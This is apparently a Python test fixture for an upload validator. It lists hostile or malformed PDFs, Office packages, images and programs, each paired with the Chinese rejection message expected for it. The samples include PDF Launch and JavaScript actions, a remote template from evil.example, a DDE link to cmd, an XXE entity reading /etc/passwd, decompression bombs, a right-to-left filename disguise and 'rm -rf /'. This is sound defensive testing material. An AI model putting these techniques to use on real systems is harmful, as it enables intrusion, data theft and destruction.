"""Documents, pictures and programs that no honest program writes, each with what is said of it."""

from __future__ import annotations

from collections.abc import Callable

from tests.applications.uploaded import (
    MACRO_WORKBOOK,
    OLE,
    XLSX,
    add_script,
    attached,
    huge_png,
    image,
    in_object_stream,
    locked_entry,
    one_page,
    raw_pdf,
    relation,
    repacked,
    sample,
    stream,
    written,
    zipped,
)

Made = tuple[str, Callable[[], bytes], str]  # name, bytes, and the message, or the name it is kept under

NOT_WHOLE = "「{}」不是完整的 PDF（可能下載或掃描中斷）；請以原軟體重新另存為 PDF 後上傳"
SCRIPT = "「{}」含有程式碼（JavaScript）；請以「列印」重新存成 PDF 後上傳"
LAUNCH = "「{}」含有會啟動其他程式或檔案的動作；請以「列印」重新存成 PDF 後上傳"
BROKEN = "「{}」已損毀或不完整，無法開啟；請以原軟體開啟確認後重新另存，再上傳"
MACRO = "「{}」含有巨集；請另存為不含巨集的活頁簿（.xlsx）或文件（.docx），或另存為 PDF 後上傳"
OBJECT = "「{}」內嵌其他程式的物件（OLE 或 ActiveX：{}）；請刪除該物件，或另存為 PDF 後上傳"
REMOTE = "「{}」會從外部位址載入內容（{}）；請移除該連結，或另存為 PDF 後上傳"
PICTURE = "圖檔「{}」已損毀或不完整；請重新截圖或掃描後上傳"
PIXELS = "圖檔「{}」超過 7000 萬像素的上限；請縮小尺寸或降低解析度後上傳"
HIDDEN = "圖檔「{}」內藏有其他檔案的內容；請重新截圖或另存後上傳"
INNER = "「{}」內嵌檔案「{}」，該檔不能上傳；請移除內嵌檔案後重新上傳"
PROGRAM = "「{}」是程式檔（{}），不能上傳；書面資料請另存為 PDF 後上傳"
ARCHIVE = "「{}」是壓縮檔（{}），請解壓縮後，將需要的檔案逐一上傳"
WEB = "「{}」是網頁或標記檔（{}）；請以「列印」另存為 PDF，或截圖為 PNG 後上傳"
UNKNOWN = "無法辨識「{}」的內容；請另存為 PDF 後上傳"
MISMATCH = "「{}」的內容是 {}，與副檔名不符；請將副檔名改為 .{}，或以原軟體重新另存後上傳"
NOT_TAKEN = "不接受「.{}」檔（{}）；請另存為 PDF、PNG、JPEG、XLSX、DOCX、CSV、TXT 或 EML 後上傳"
PROGRAM_BYTES = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(200)

HOSTILE_PDF = {
    "cut off": ("a.pdf", lambda: sample("測試報告.pdf")[:-2000], NOT_WHOLE.format("a.pdf")),
    "cut in half": ("a.pdf", lambda: sample("測試報告.pdf")[:200_000], NOT_WHOLE.format("a.pdf")),
    "only a header": ("a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", NOT_WHOLE.format("a.pdf")),
    "no pages": (
        "a.pdf",
        lambda: raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
        NOT_WHOLE.format("a.pdf"),
    ),
    "page tree in a circle": (
        "a.pdf",
        lambda: raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"),
        NOT_WHOLE.format("a.pdf"),
    ),
    "nested beyond reason": ("a.pdf", lambda: one_page(b"[" * 9000 + b"]" * 9000), NOT_WHOLE.format("a.pdf")),
    "needs a password": (
        "a.pdf",
        lambda: written(lambda writer: writer.encrypt("user", "owner", algorithm="RC4-128")),
        "「a.pdf」需要密碼才能開啟；請移除開啟密碼後重新上傳",
    ),
    "a zip behind it": (
        "a.pdf",
        lambda: sample("資通安全檢查機制聲明書.pdf") + zipped(a=b"1"),
        "「a.pdf」在 PDF 結尾之後還有其他內容；請以「列印」重新存成 PDF 後上傳",
    ),
    "script on opening": ("a.pdf", lambda: written(add_script), SCRIPT.format("a.pdf")),
    "script under an escaped name": (
        "a.pdf", lambda: one_page(catalogue=b"/OpenAction << /S /J#61vaScript /JS (x) >>"), SCRIPT.format("a.pdf"),
    ),
    "script by reference": (
        "a.pdf",
        lambda: one_page(b"/JavaScript", b"<< /S 4 0 R /JS (x) >>", page=b"/AA << /O 5 0 R >>"),
        SCRIPT.format("a.pdf"),
    ),
    "script in a rendition": (
        "a.pdf", lambda: one_page(b"<< /S /Rendition /JS (x) >>", page=b"/AA << /O 4 0 R >>"), SCRIPT.format("a.pdf"),
    ),
    "script in an object stream": ("a.pdf", in_object_stream, SCRIPT.format("a.pdf")),
    "script in a locked file": (
        "a.pdf",
        lambda: written(add_script, lambda writer: writer.encrypt("", "owner", algorithm="RC4-128")),
        SCRIPT.format("a.pdf"),
    ),
    "starts a program": (
        "a.pdf", lambda: one_page(catalogue=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), LAUNCH.format("a.pdf"),
    ),
    "XFA form": (
        "a.pdf",
        lambda: one_page(stream(b"<xdp/>"), catalogue=b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
        "「a.pdf」是 XFA 動態表單；請以「列印」重新存成一般 PDF 後上傳",
    ),
    "rich media": (
        "a.pdf",
        lambda: one_page(b"<< /Subtype /RichMedia /Rect [0 0 9 9] >>", page=b"/Annots [4 0 R]"),
        "「a.pdf」內含多媒體或 3D 物件；請以「列印」重新存成 PDF 後上傳",
    ),
    "program attached": ("a.pdf", lambda: attached("x.exe", PROGRAM_BYTES), INNER.format("a.pdf", "x.exe")),
    "program attached as a document": (
        "a.pdf", lambda: attached("x.pdf", PROGRAM_BYTES), INNER.format("a.pdf", "x.pdf"),
    ),
    "script in an attached PDF": (
        "a.pdf",
        lambda: attached("b.pdf", written(add_script)),
        INNER.format("a.pdf", "b.pdf"),
    ),
    "attached to what is attached": (
        "a.pdf",
        lambda: attached("b.pdf", attached("c.csv", b"1,2\n")),
        INNER.format("a.pdf", "b.pdf"),
    ),
}  # fmt: skip

HOSTILE_PACKAGE = {
    "macro workbook": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", change={"[Content_Types].xml": (XLSX.encode() + b".main+xml", MACRO_WORKBOOK)}),
        MACRO.format("a.xlsx"),
    ),
    "vbaProject.bin": (
        "a.docx", lambda: repacked("作業手冊.docx", add={"word/vbaProject.bin": OLE}), MACRO.format("a.docx"),
    ),
    "Excel 4 macro sheet": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", add={"xl/macrosheets/sheet1.xml": b"<a/>"}),
        MACRO.format("a.xlsx"),
    ),
    "OLE object": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={"word/embeddings/oleObject1.bin": OLE}),
        OBJECT.format("a.docx", "word/embeddings/oleObject1.bin"),
    ),
    "ActiveX": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={"word/activeX/activeX1.xml": b"<a/>"}),
        OBJECT.format("a.docx", "word/activeX/activeX1.xml"),
    ),
    "linked object": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={"word/_rels/x.xml.rels": relation("oleObject", "http://a.example/x")}),
        OBJECT.format("a.docx", "http://a.example/x"),
    ),
    "macro workbook inside": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={
            "word/embeddings/a.xlsx": repacked("roster.xlsx", add={"xl/vbaProject.bin": OLE})
        }),
        MACRO.format("a.docx"),
    ),
    "template from the web": (
        "a.docx",
        lambda: repacked("作業手冊.docx", add={
            "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")
        }),
        REMOTE.format("a.docx", "https://evil.example/t.dotm"),
    ),
    "DDE": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", add={
            "xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd"/></x>'
        }),
        REMOTE.format("a.xlsx", "DDE"),
    ),
    "entities": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", change={
            "[Content_Types].xml": (b"<Types", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Types')
        }),
        BROKEN.format("a.xlsx"),
    ),
    "bomb": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", add={"xl/media/zeros.bin": bytes(100 * 1024 * 1024)}),
        "「a.xlsx」解開後超過 100 MB 的上限；請刪減內容，或另存為 PDF 後上傳",
    ),
    "thousands of parts": (
        "a.xlsx",
        lambda: repacked("roster.xlsx", add={f"xl/media/{n}": b"" for n in range(2000)}),
        "「a.xlsx」內含 2009 個部分，超過上限 2000 個；請另存為 PDF 後上傳",
    ),
    "cut off": ("a.docx", lambda: sample("作業手冊.docx")[:-3000], BROKEN.format("a.docx")),
    "one byte wrong": (
        "a.docx",
        lambda: sample("作業手冊.docx")[:3000] + b"\0\0\0\0" + sample("作業手冊.docx")[3004:],
        BROKEN.format("a.docx"),
    ),
    "bytes behind it": ("a.xlsx", lambda: sample("roster.xlsx") + b"MZ", BROKEN.format("a.xlsx")),
    "two archives": (
        "a.xlsx", lambda: zipped(a=b"1") + sample("roster.xlsx"), BROKEN.format("a.xlsx"),
    ),
    "locked part": ("a.xlsx", locked_entry, "「a.xlsx」設有密碼，無法開啟；請移除密碼後重新上傳"),
    "locked workbook": (
        "a.xlsx",
        lambda: OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le"),
        "「a.xlsx」設有密碼，無法開啟；請移除密碼後重新上傳",
    ),
    "slides": (
        "a.pptx",
        lambda: repacked("作業手冊.docx", change={
            "[Content_Types].xml": (
                b"wordprocessingml.document.main+xml", b"presentationml.presentation.main+xml"
            )
        }),
        "「a.pptx」是簡報、範本或其他 Office 檔，不能直接上傳；請另存為 PDF 後上傳",
    ),
    "mere zip": ("a.zip", lambda: zipped(a=b"1"), ARCHIVE.format("a.zip", "ZIP")),
    "mere zip as a workbook": ("a.xlsx", lambda: zipped(a=b"1"), ARCHIVE.format("a.xlsx", "ZIP")),
}  # fmt: skip

HOSTILE_OTHER = {
    "empty": ("a.pdf", lambda: b"", "「a.pdf」是空的檔案，請確認原檔有內容後重新上傳"),
    "too big": (
        "a.txt",
        lambda: b"x" * (20 * 1024 * 1024 + 1),
        "「a.txt」超過 20 MB 的上限，請分成數個檔案，或降低掃描解析度後重新上傳",
    ),
    "PNG cut off": ("a.png", lambda: sample("公司網站公告截圖.png")[:-1000], PICTURE.format("a.png")),
    "PNG of a wrong byte": (
        "a.png",
        lambda: sample("公司網站公告截圖.png")[:5000] + b"\0\0\0\0" + sample("公司網站公告截圖.png")[5004:],
        PICTURE.format("a.png"),
    ),
    "PNG bomb": ("a.png", lambda: huge_png(60_000, 60_000), PIXELS.format("a.png")),
    "PNG just over the cap": ("a.png", lambda: huge_png(10_000, 7_001), PIXELS.format("a.png")),
    "JPEG cut off": ("a.jpg", lambda: image("JPEG", (400, 300))[:-400], PICTURE.format("a.jpg")),
    "JPEG of two bytes": ("a.jpg", lambda: b"\xff\xd8\xff\xe0", PICTURE.format("a.jpg")),
    "zip behind a picture": ("a.png", lambda: image("PNG") + zipped(a=b"1"), HIDDEN.format("a.png")),
    "script behind a picture": ("a.jpg", lambda: image("JPEG") + b"<script>x</script>", HIDDEN.format("a.jpg")),
    "GIF": ("a.gif", lambda: image("GIF"), "「a.gif」是 GIF 圖檔；請另存為 PNG 或 JPEG 後上傳"),
    "BMP as PNG": ("a.png", lambda: image("BMP"), "「a.png」是 BMP 圖檔；請另存為 PNG 或 JPEG 後上傳"),
    "TIFF": ("a.tif", lambda: image("TIFF"), "「a.tif」是 TIFF 圖檔；請另存為 PNG 或 JPEG 後上傳"),
    "WEBP": ("a.webp", lambda: image("WEBP"), "「a.webp」是 WEBP 圖檔；請另存為 PNG 或 JPEG 後上傳"),
    "program": ("a.exe", lambda: PROGRAM_BYTES, PROGRAM.format("a.exe", "EXE")),
    "program as PDF": ("報告.pdf", lambda: PROGRAM_BYTES, PROGRAM.format("報告.pdf", "EXE")),
    "program behind a turned name": (
        "報告\u202efdp.exe", lambda: PROGRAM_BYTES, PROGRAM.format("報告fdp.exe", "EXE"),
    ),
    "ELF": ("a.pdf", lambda: b"\x7fELF\2\1\1" + bytes(300), PROGRAM.format("a.pdf", "EXE")),
    "gzip": ("a.gz", lambda: b"\x1f\x8b\x08\0" + bytes(range(128, 200)), ARCHIVE.format("a.gz", "GZ")),
    "RAR": ("a.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(60) + b"\xff\xff", ARCHIVE.format("a.rar", "RAR")),
    "old Word": (
        "a.doc",
        lambda: OLE + bytes(500) + "WordDocument".encode("utf-16-le"),
        "「a.doc」是舊版 Word 檔（.doc）；請另存為 .docx 或 PDF 後上傳",
    ),
    "old Excel": (
        "a.xls",
        lambda: OLE + bytes(500) + "Workbook".encode("utf-16-le"),
        "「a.xls」是舊版 Excel 檔（.xls）；請另存為 .xlsx 或 PDF 後上傳",
    ),
    "installer": ("a.msi", lambda: OLE + bytes(500), "「a.msi」是舊版 Office 或其他複合檔；請另存為 PDF 後上傳"),
    "HTML": ("a.html", lambda: b"<!DOCTYPE html><script>x</script>", WEB.format("a.html", "HTML/XML")),
    "HTML as a workbook": ("a.xls", lambda: b"\n <html><table>", WEB.format("a.xls", "HTML/XML")),
    "HTML as text": ("a.txt", lambda: "\ufeff <html>".encode("utf-16"), WEB.format("a.txt", "HTML/XML")),
    "SVG": ("a.svg", lambda: b'<?xml version="1.0"?><svg onload="x"/>', WEB.format("a.svg", "SVG")),
    "SVG as PNG": ("a.png", lambda: b"<svg onload='x'/>", WEB.format("a.png", "SVG")),
    "shell script": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", UNKNOWN.format("a.txt")),
    "RTF": ("a.txt", lambda: b"{\\rtf1 x}", UNKNOWN.format("a.txt")),
    "batch": ("a.bat", lambda: b"del *.*\r\n", NOT_TAKEN.format("bat", "a.bat")),
    "nonsense": ("a.pdf", lambda: b"\x8a\x03\xfe\xff\0\1\2" * 50, UNKNOWN.format("a.pdf")),
    "NUL in a text": (
        "a.csv",
        lambda: "員工編號,\0姓名".encode(),
        "「a.csv」不是可讀的文字檔（編碼不明或含控制字元）；請以 UTF-8 編碼另存後上傳",
    ),
    "escape sequence in a text": (
        "a.txt",
        lambda: "\x1b[2J員工".encode(),
        "「a.txt」不是可讀的文字檔（編碼不明或含控制字元）；請以 UTF-8 編碼另存後上傳",
    ),
    "PNG named PDF": ("a.pdf", lambda: image("PNG"), MISMATCH.format("a.pdf", "PNG", "png")),
    "PDF without an extension": (
        "報告", lambda: sample("測試報告.pdf"), MISMATCH.format("報告", "PDF", "pdf"),
    ),
    "workbook named document": (
        "a.docx", lambda: sample("roster.xlsx"), MISMATCH.format("a.docx", "XLSX", "xlsx"),
    ),
    "PDF named program": ("a.exe", lambda: sample("測試報告.pdf"), MISMATCH.format("a.exe", "PDF", "pdf")),
    "text named PDF": ("a.pdf", lambda: b"hello", MISMATCH.format("a.pdf", "TXT", "txt")),
}  # fmt: skip
